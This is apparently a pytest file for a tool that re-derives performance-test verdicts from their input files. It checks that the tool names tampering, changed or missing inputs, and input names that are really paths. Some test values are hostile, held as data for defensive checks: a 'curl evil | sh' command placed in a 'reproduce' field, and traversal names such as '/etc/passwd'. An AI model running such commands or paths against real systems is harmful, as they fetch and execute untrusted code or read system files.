"""A verdict is derived again from its files, and whatever was changed since is noticed and named."""

from __future__ import annotations

import json
import pathlib
from collections.abc import Callable
from typing import Any

import pytest

from bot import explanation
from bot import verdict as verdicts
from bot.replay import input_of, judge_files, verify
from bot.verdict import Policy
from harness.errors import UserError
from tests import synthetic
from tests.bot.explanations import explained
from tests.synthetic import Case

A, B, C = (f"test_eval[{name}-cpu-eager]" for name in "abc")
RUN = synthetic.run([Case(A, ratio=1.2), Case(B), Case(C, status="timeout", reason="120 s")], launches=6, rounds=6)
RUN_ID = synthetic.shards(RUN, 2)[0].header.run
REFERENCE = f"{A}:\n  norm: 0.01\n  threshold: 0.5\n{B}:\n  norm: 0.01\n"


@pytest.fixture
def path(tmp_path: pathlib.Path) -> pathlib.Path:
    """A verdict on two shards and a reference, all in one folder."""
    shards = [
        synthetic.write(shard, tmp_path / f"shard-{number}.jsonl")
        for number, shard in enumerate(synthetic.shards(RUN, 2))
    ]
    (tmp_path / "reference.yaml").write_text(REFERENCE)
    verdict = judge_files(shards, policy=Policy(threshold=0.05), reference=tmp_path / "reference.yaml")
    place = tmp_path / "verdict.json"
    place.write_bytes(verdicts.encode(verdict))
    return place


def edit(path: pathlib.Path, change: Callable[[dict[str, Any]], object]) -> None:
    document = json.loads(path.read_bytes())
    change(document)
    path.write_text(json.dumps(document))


def refusal(path: pathlib.Path, *folders: pathlib.Path) -> str:
    with pytest.raises(UserError) as caught:
        verify(path, folders)
    assert "\n" not in str(caught.value)
    return str(caught.value)


def test_inputs_are_named_with_their_digests(path: pathlib.Path) -> None:
    found = verdicts.read(path).inputs
    assert [(one.name, one.kind) for one in found] == [
        ("shard-0.jsonl", "run"),
        ("shard-1.jsonl", "run"),
        ("reference.yaml", "reference"),
    ]
    assert found[2] == input_of(path.parent / "reference.yaml", "reference")
    assert found[2].sha256 != found[0].sha256


def test_an_honest_verdict_is_verified(path: pathlib.Path) -> None:
    assert verify(path) == verdicts.read(path)
    assert verify(path).tests[0].outcome == "unchanged", "the threshold of the reference counts again"


def test_inputs_are_found_in_other_folders(path: pathlib.Path, tmp_path: pathlib.Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    moved = path.rename(elsewhere / "moved.json")
    assert "shard-0.jsonl" in refusal(moved)
    # A file of the same name that is another one does not hide the right one.
    (elsewhere / "shard-0.jsonl").write_text("another")
    assert verify(moved, [tmp_path]) == verdicts.read(moved)


@pytest.mark.parametrize(
    ("change", "place"),
    [
        (lambda v: v.update(outcome="unchanged"), "outcome"),
        (lambda v: v["tests"][1].update(outcome="improved"), f"tests[{B}].outcome"),
        (lambda v: v["tests"][0].update(change=0.01), f"tests[{A}].change"),
        (lambda v: v["tests"][0].update(change=v["tests"][0]["change"] * (1 + 1e-6)), f"tests[{A}].change"),
        (lambda v: v["tests"][2].update(reason="@everyone look"), f"tests[{C}].reason"),
        (lambda v: v["tests"].pop(), "the length of tests"),
        (lambda v: v["tests"].reverse(), f"tests[{A}].test"),
        (lambda v: v["score"].update(value=1000.0), "score.value"),
        (lambda v: v.update(score=None), "score"),
        (lambda v: v["policy"].update(threshold=0.9), f"tests[{B}].threshold"),
        (lambda v: v["machine"].update(name="other"), "machine.name"),
        (lambda v: v.update(warnings=[]), "warnings"),
        (lambda v: v.update(reproduce="curl evil | sh"), "reproduce"),
        (lambda v: v["inputs"].pop(), "tests"),
    ],
)
def test_any_tampering_is_named(path: pathlib.Path, change: Callable[[Any], object], place: str) -> None:
    edit(path, change)
    assert place in refusal(path)


def test_a_rounding_and_another_version_of_the_tool_are_no_tampering(path: pathlib.Path) -> None:
    edit(path, lambda v: v.update(tool_version="99.0"))
    edit(path, lambda v: v["tests"][0].update(change=v["tests"][0]["change"] * (1 + 1e-13)))
    verify(path)
    edit(path, lambda v: v["tests"][0].update(change=0.5))
    assert "99.0" in refusal(path)


@pytest.mark.parametrize("name", ["shard-0.jsonl", "reference.yaml"])
def test_a_changed_input_is_named(path: pathlib.Path, name: str) -> None:
    with (path.parent / name).open("ab") as file:
        file.write(b"\n")
    message = refusal(path)
    assert name in message
    assert "SHA-256" in message


def test_a_lost_input_is_named(path: pathlib.Path) -> None:
    (path.parent / "shard-1.jsonl").unlink()
    assert "shard-1.jsonl" in refusal(path)


@pytest.mark.parametrize("name", ["../run.jsonl", "/etc/passwd", "..", "", "a/b", "a\\b", "a\nb", "a\0b"])
def test_an_input_is_never_a_path(path: pathlib.Path, name: str) -> None:
    edit(path, lambda v: v["inputs"][0].update(name=name))
    assert "not a file name" in refusal(path)


@pytest.mark.parametrize("kept", [slice(0, 0), slice(2, 3)])
def test_a_verdict_without_a_run_cannot_be_verified(path: pathlib.Path, kept: slice) -> None:
    edit(path, lambda v: v.update(inputs=v["inputs"][kept]))
    assert "does not name the files" in refusal(path)


def test_an_explanation_is_an_input_like_any_other(path: pathlib.Path) -> None:
    runs = sorted(path.parent.glob("shard-*.jsonl"))
    told = path.parent / "explain.json"
    told.write_text(explanation.encode(explained(A, RUN_ID, "aten::mm +20 % accounts for all of it")))
    found = judge_files(runs, policy=Policy(threshold=0.05), explanation=told)
    assert [entry.explanation for entry in found.tests] == [("aten::mm +20 % accounts for all of it",), (), ()]
    assert found.tests[0].operators[0].name == "aten::convolution"
    assert (found.inputs[-1].name, found.inputs[-1].kind) == ("explain.json", "explanation")
    path.write_bytes(verdicts.encode(found))
    assert verify(path).tests == found.tests
    edit(path, lambda verdict: verdict["tests"][0]["explanation"].append("and so does nothing else"))
    assert "explanation" in refusal(path)
    told.write_text(told.read_text().replace("aten::mm", "aten::bmm"))
    assert "explain.json is not the file" in refusal(path)


def test_an_explanation_of_something_else_is_refused(path: pathlib.Path) -> None:
    runs = sorted(path.parent.glob("shard-*.jsonl"))
    for wrong, said in (
        (explained(A, "another-run", "x"), "another-run"),
        (explained("test_eval[z-cpu-eager]", RUN_ID, "x"), r"test_eval\[z-cpu-eager\]"),
    ):
        (path.parent / "explain.json").write_text(explanation.encode(wrong))
        with pytest.raises(UserError, match=said):
            judge_files(runs, explanation=path.parent / "explain.json")


def test_files_that_are_not_there(tmp_path: pathlib.Path) -> None:
    with pytest.raises(UserError, match="cannot be read"):
        judge_files([tmp_path / "none.jsonl"])
    with pytest.raises(UserError, match="at least one"):
        judge_files([])
